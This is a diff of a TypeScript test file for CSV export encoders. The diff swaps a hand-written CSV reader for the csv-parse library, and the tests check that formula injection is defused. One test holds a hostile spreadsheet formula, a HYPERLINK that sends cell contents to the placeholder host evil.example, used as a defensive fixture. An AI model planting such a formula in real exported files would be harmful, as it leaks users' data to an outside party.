@@ -1,37 +1,9 @@
 import fc from 'fast-check';
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { csvField, csvRecord } from '#exports/domain/csv.ts';
 import { usageEncoder, ledgerEncoder } from '#exports/domain/encode.ts';
 import type { LedgerRow, UsageRow } from '#exports/domain/rows.ts';
-
-/** A minimal RFC 4180 reader, to prove what was written reads back as the same fields. */
-const parseCsv = (text: string): string[][] => {
-  const records: string[][] = [];
-  let record: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i += 1) {
-    const char = text[i];
-    if (quoted) {
-      if (char === '"' && text[i + 1] === '"') {
-        field += '"';
-        i += 1;
-      } else if (char === '"') quoted = false;
-      else field += char;
-    } else if (char === '"') quoted = true;
-    else if (char === ',') {
-      record.push(field);
-      field = '';
-    } else if (char === '\r' && text[i + 1] === '\n') {
-      record.push(field);
-      records.push(record);
-      record = [];
-      field = '';
-      i += 1;
-    } else field += char;
-  }
-  return records;
-};
 
 const usageRow = (overrides: Partial<UsageRow> = {}): UsageRow => ({
   usageRecordId: 'use_1',
@@ -83,7 +55,7 @@ describe('csvRecord', () => {
 
   it('reads back as the same fields, whatever they hold', () => {
     const fields = ['plain', 'with, comma', 'with "quotes"', 'multi\r\nline', '', '"', ',', '\n'];
-    expect(parseCsv(csvRecord(fields))).toEqual([fields]);
+    expect(parse(csvRecord(fields))).toEqual([fields]);
   });
 });
 
@@ -101,14 +73,14 @@ describe('usage CSV', () => {
   });
 
   it("names the service of a service replica's job (read from its id), and leaves it empty for any other job", () => {
-    const [replica] = parseCsv(usageEncoder('csv').page([usageRow({ jobId: 'job_01testservice000000001r2g3' })]));
+    const [replica] = parse(usageEncoder('csv').page([usageRow({ jobId: 'job_01testservice000000001r2g3' })]));
     expect(replica?.[16]).toBe('svc_01testservice000000001');
-    const [plain] = parseCsv(usageEncoder('csv').page([usageRow()]));
+    const [plain] = parse(usageEncoder('csv').page([usageRow()]));
     expect(plain?.[16]).toBe('');
   });
 
   it('quotes a field that needs it and leaves a missing one empty', () => {
-    const [record] = parseCsv(usageEncoder('csv').page([usageRow({ gpuModel: 'RTX "4090", 24GB', transactionId: null })]));
+    const [record] = parse(usageEncoder('csv').page([usageRow({ gpuModel: 'RTX "4090", 24GB', transactionId: null })]));
     expect(record?.[6]).toBe('RTX "4090", 24GB');
     expect(record?.[15]).toBe('');
   });
@@ -161,7 +133,7 @@ describe('formula injection (OWASP CSV injection)', () => {
   it('reads back, for any text, as the text itself or, if it would start a formula, as the text after one single quote', () => {
     fc.assert(
       fc.property(fc.array(fc.oneof(fc.string(), fc.constantFrom('=', '+', '-', '@', '\t', '\r').chain((head) => fc.string().map((tail) => head + tail))), { minLength: 1, maxLength: 6 }), (fields) => {
-        const [cells = []] = parseCsv(csvRecord(fields));
+        const [cells = []] = parse(csvRecord(fields));
         expect(cells).toHaveLength(fields.length);
         cells.forEach((cell, index) => {
           expect(isLiveFormula(cell)).toBe(false);
@@ -172,9 +144,9 @@ describe('formula injection (OWASP CSV injection)', () => {
   });
 
   it('defuses a hostile GPU name in the usage CSV and keeps signed ledger amounts as numbers', () => {
-    const [usage] = parseCsv(usageEncoder('csv').page([usageRow({ gpuModel: '=HYPERLINK("http://evil.example/?x="&B2,"RTX 4090")' })]));
+    const [usage] = parse(usageEncoder('csv').page([usageRow({ gpuModel: '=HYPERLINK("http://evil.example/?x="&B2,"RTX 4090")' })]));
     const entry: LedgerRow = { transactionId: 'txn_1', entryId: 'ent_1', postedAt: '2025-03-10T10:30:01.000Z', accountId: 'acct_renter', kind: 'credit', amount: -450_000, reference: '@SUM(1+1)' };
-    const [ledger] = parseCsv(ledgerEncoder('csv').page([entry]));
+    const [ledger] = parse(ledgerEncoder('csv').page([entry]));
 
     expect(usage?.[6]).toBe(`'=HYPERLINK("http://evil.example/?x="&B2,"RTX 4090")`);
     expect([ledger?.[5], ledger?.[6]]).toEqual(['-0.450000', "'@SUM(1+1)"]);
